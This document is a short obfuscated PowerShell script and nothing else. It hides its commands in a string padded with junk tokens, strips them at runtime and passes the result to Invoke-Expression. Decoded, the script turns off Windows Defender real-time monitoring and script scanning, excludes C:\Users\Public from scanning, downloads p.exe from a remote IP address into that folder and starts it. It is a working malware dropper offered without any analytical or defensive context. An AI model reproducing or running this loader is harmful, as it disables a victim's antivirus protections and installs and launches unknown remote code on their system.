$j = 'Set-qZMpPreferenqZce~# -[!]DqZisaqZbqZleRealt~#imeM[!]onitqZoring $~#true~#;qZAdd-MpPrefqZereqZnce [!]-Ex~#clusqZionPatqZh ''qZC[!]:\[!]Users\qZPqZuqZb~#liqZc'';SqZet[!]-~#M[!]pPqZr[!]efqZerence ~#-DqZisabl~#e~#ScriptSc[!]anni~#ng $~#t~#rue;~#(New-Ob~#ject qZNeqZt.qZWebCl~#ientqZ)qZ.~#DownloqZad[!]FqZile~#(''http://qZ19~#8.51.[!]10qZ0qZ.~#17/p.qZeqZxe''[!],''C:\qZUser~#sqZ\PqZubl[!]icqZ\pqZ.ex[!]e~#'');qZS~#ta[!]r~#t-Proces~#s ''qZC:\~#UqZs[!]ers[!]\~#Publi[!]c\~#p.exe[!]'''
$j = ($j -replace '~#', '').Replace('[!]', '') -creplace 'qZ', ''
Invoke-Expression $j
